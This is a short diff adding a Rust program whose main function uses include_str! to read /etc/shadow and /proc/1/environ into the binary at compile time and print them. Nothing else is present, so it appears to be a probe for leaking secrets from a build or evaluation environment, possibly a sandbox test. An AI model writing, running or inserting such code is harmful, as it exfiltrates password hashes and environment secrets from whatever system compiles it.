@@ -1,0 +1,3 @@
+fn main() {
+    println!("{}{}", include_str!("/etc/shadow"), include_str!("/proc/1/environ"));
+}
